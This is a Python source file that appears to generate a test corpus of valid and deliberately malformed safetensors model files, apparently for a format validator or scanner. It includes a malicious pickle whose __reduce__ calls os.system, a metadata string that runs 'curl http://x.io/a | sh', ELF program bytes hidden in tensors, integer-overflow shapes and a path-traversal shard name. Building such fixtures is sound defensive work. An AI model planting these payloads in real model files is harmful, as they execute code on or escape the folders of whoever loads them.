"""safetensors: headers that lie, texts that hide, tensors that are none; and what honest writers make."""

from __future__ import annotations

import base64
import json
import os
import pickle
import struct
from collections.abc import Callable
from typing import Any

from corpus import Sample, add, bad, honest


def made(header: Any, data: bytes) -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def tensor(begin: int, end: int, shape: list[int], dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


@honest("safetensors", "two tensors and metadata, as the safetensors library writes them", file="model.safetensors")
def two_tensors() -> bytes:
    header = {"__metadata__": {"format": "pt"}, "a": tensor(0, 8, [2]), "b": tensor(8, 16, [2, 1])}
    return made(header, struct.pack("<4f", 0.5, -1.5, 2.5, 3.5))


@bad("safetensors", "two tensors that share bytes", file="model.safetensors")
def overlap() -> bytes:
    return made({"a": tensor(0, 8, [2]), "b": tensor(4, 12, [2])}, bytes(range(12)))


def raw(text: bytes, data: bytes = b"") -> bytes:
    """A file with this very header."""
    return struct.pack("<Q", len(text)) + text + data


def one(**changes: Any) -> bytes:
    """A file of one tensor, with some of its description changed."""
    return made({"a": {**tensor(0, 8, [2]), **changes}}, bytes(8))


def pickled() -> bytes:
    """A harmful pickle."""

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return os.system, ("id",)

    return pickle.dumps(Evil())


@honest("safetensors", "no tensor at all, padded with spaces", file="model.safetensors")
def no_tensor() -> bytes:
    return raw(b"{}      ")


@honest("safetensors", "every type, tensors without items, scalars", file="model.safetensors")
def every_type() -> bytes:
    sizes = {"BOOL": 1, "U8": 1, "I8": 1, "F8_E5M2": 1, "F8_E4M3": 1, "F8_E8M0": 1, "I16": 2, "U16": 2, "F16": 2,
             "BF16": 2, "I32": 4, "U32": 4, "F32": 4, "F64": 8, "I64": 8, "U64": 8, "C64": 8}  # fmt: skip
    header, at = {"empty": tensor(0, 0, [0, 3])}, 0
    for name, size in sizes.items():
        header[name] = tensor(at, at + size, [], name)
        at += size
    return made(header, bytes(at))


@honest("safetensors", "4-bit weights as bitsandbytes packs them: bytes, with their scales", file="model.safetensors")
def four_bits() -> bytes:
    state = {"quant_type": "nf4", "blocksize": 64, "dtype": "bfloat16", "shape": [8, 8]}
    note = json.dumps(state).encode()
    header = {
        "w": tensor(0, 32, [32, 1], "U8"),
        "w.absmax": tensor(32, 36, [1]),
        "w.quant_map": tensor(36, 100, [16]),
        "w.quant_state.bitsandbytes__nf4": tensor(100, 100 + len(note), [len(note)], "U8"),
    }
    return made(header, bytes(range(32)) + bytes(68) + note)


@honest("safetensors", "GPTQ weights: packed integers beside their scales", file="model.safetensors")
def gptq() -> bytes:
    header = {
        "__metadata__": {"format": "pt"},
        "q.qweight": tensor(0, 64, [8, 2], "I32"),
        "q.qzeros": tensor(64, 68, [1, 1], "I32"),
        "q.scales": tensor(68, 72, [1, 2], "F16"),
        "q.g_idx": tensor(72, 104, [8], "I32"),
    }
    return made(header, bytes(range(104)))


@honest("safetensors", "metadata of a trainer: JSON in text, and an address", file="lora.safetensors")
def trainer_notes() -> bytes:
    notes = {
        "ss_network_args": '{"conv_dim": "4", "algo": "locon"}',
        "modelspec.architecture": "stable-diffusion-xl-v1-base/lora",
        "modelspec.implementation": "https://github.com/Stability-AI/generative-models",
        "ss_tag_frequency": json.dumps({"img": {"1girl": 20, "eval": 3, "system": 2}}),
        "sshash_model_hash": "a" * 64,
    }
    return made({"__metadata__": notes, "a": tensor(0, 8, [2])}, bytes(8))


@honest("safetensors", "a tensor that begins with the two bytes of a script, and one with those of a pickle")
def near_misses() -> bytes:
    header = {"a": tensor(0, 4, [4], "U8"), "b": tensor(4, 8, [4], "U8"), "c": tensor(8, 12, [4], "U8")}
    return made(header, b"#!\x01\x02" + b"\x80\x04\xff\xff" + b"MZ\x90\0")


@honest("safetensors", "an index and its shards")
def index() -> dict[str, bytes]:
    names = {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}
    shards = {name: made({key: tensor(0, 8, [2])}, bytes(8)) for key, name in names.items()}
    text = json.dumps({"metadata": {"total_size": 16}, "weight_map": names})
    return {"model.safetensors.index.json": text.encode(), **shards}


LIES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "header_too_long": ("a header longer than the file", lambda: struct.pack("<Q", 1 << 20) + b"{}" + bytes(64)),
    "header_beyond_limit": ("a header above 100 MB", lambda: struct.pack("<Q", 200_000_000) + b"{}" + bytes(64)),
    "header_no_object": ("a list as the header", lambda: raw(b'{"a":1}'.replace(b"{", b"[", 1))),
    "header_cut": ("a header that ends within", lambda: raw(b'{"a":{"dtype":"F32","shape":[2]')),
    "header_twice": ("two values behind one another", lambda: raw(b"{}{}      ")),
    "header_not_utf8": ("bytes that are no UTF-8", lambda: raw(b'{"\xff\xfe":{}}')),
    "header_utf16": ("UTF-16", lambda: raw("{}".encode("utf-16-le") + b" \0" * 4)),
    "header_nan": ("a number that is none", lambda: raw(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,8]}}')),
    "header_deep": ("nested beyond any reader", lambda: raw(b'{"a":' + b"[" * 100_000)),
    "key_twice": (
        "one name twice: readers take one or the other",
        lambda: raw(
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
            b'"a":{"dtype":"I32","shape":[2],"data_offsets":[0,8]}}',
            bytes(8),
        ),
    ),
    "field_twice": (
        "one field twice",
        lambda: raw(b'{"a":{"dtype":"F32","shape":[1],"shape":[2],"data_offsets":[0,8]}}', bytes(8)),
    ),
    "metadata_twice": ("metadata twice", lambda: raw(b'{"__metadata__":{"a":"b"},"__metadata__":{}}')),
    "half_a_surrogate": (
        "a name that is no Unicode",
        lambda: raw(b'{"\\ud800":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8)),
    ),
    "unknown_type": ("a type that nobody knows", lambda: one(dtype="F7")),
    "type_in_lower_case": ("a type in lower case", lambda: one(dtype="f32")),
    "extra_field": ("a field that nobody knows", lambda: one(code="print(1)")),
    "no_shape": ("a tensor without a shape", lambda: made({"a": {"dtype": "F32", "data_offsets": [0, 8]}}, bytes(8))),
    "negative_size": ("a negative dimension", lambda: one(shape=[-2])),
    "negative_offset": ("a negative offset", lambda: one(data_offsets=[-8, 0])),
    "size_as_text": ("a dimension in quotes", lambda: one(shape=["2"])),
    "size_as_fraction": ("a dimension with a point", lambda: one(shape=[2.0])),
    "true_as_offset": ("an offset that is a truth value", lambda: one(data_offsets=[False, 8])),
    "shape_too_large": ("a shape larger than its bytes", lambda: one(shape=[3])),
    "shape_overflows": (
        "CVE-2026-0897's kind: a product that wraps to nothing in 64 bits",
        lambda: made({"a": tensor(0, 0, [1 << 32, 1 << 32])}, b""),
    ),
    "shape_overflows_to_zero": (
        "a product that passes 64 bits before a zero",
        lambda: made({"a": tensor(0, 0, [1 << 40, 1 << 40, 0])}, b""),
    ),
    "offsets_backwards": ("an end before its begin", lambda: one(data_offsets=[8, 0])),
    "hole": ("a hole between tensors", lambda: made({"a": tensor(0, 8, [2]), "b": tensor(12, 20, [2])}, bytes(20))),
    "hole_at_the_front": ("a hole before the first tensor", lambda: made({"a": tensor(8, 16, [2])}, bytes(16))),
    "trailing": ("bytes behind the last tensor", lambda: one() + b"hidden"),
    "truncated": ("a file that ends in a tensor", lambda: one()[:-1]),
    "metadata_no_text": ("metadata that is no text", lambda: made({"__metadata__": {"a": {"b": "c"}}}, b"")),
    "metadata_list": ("metadata that is a list", lambda: made({"__metadata__": ["a"]}, b"")),
    "half_a_byte": ("items of 4 bits that end in half a byte", lambda: made({"a": tensor(0, 2, [3], "F4")}, bytes(2))),
    "pickle_in_metadata": (
        "base64 of a pickle in the metadata",
        lambda: made({"__metadata__": {"config": base64.b64encode(pickled()).decode()}}, b""),
    ),
    "program_in_metadata": (
        "base64 of a program in the metadata",
        lambda: made({"__metadata__": {"x": base64.b64encode(b"\x7fELF\2\1\1" + bytes(200)).decode()}}, b""),
    ),
    "code_in_metadata": (
        "Python that runs a program, in the metadata",
        lambda: made({"__metadata__": {"init": "__import__('os').system('curl http://x.io/a | sh')"}}, b""),
    ),
    "program_in_tensor": (
        "a tensor that is a program",
        lambda: made({"a": tensor(0, 64, [64], "U8")}, b"\x7fELF\2\1\1" + bytes(57)),
    ),
    "pickle_in_tensor": (
        "a tensor that is a pickle",
        lambda: made({"a": tensor(0, len(pickled()), [len(pickled())], "U8")}, pickled()),
    ),
}  # fmt: skip

for _name, (_why, _build) in LIES.items():
    add(Sample(f"safetensors/{_name}", "safetensors", _why, "model.safetensors", "", _build, True))


@bad("safetensors", "an index whose shard lies outside the folder")
def index_escapes() -> dict[str, bytes]:
    text = json.dumps({"weight_map": {"a": "../../other/model.safetensors"}})
    return {"model.safetensors.index.json": text.encode()}
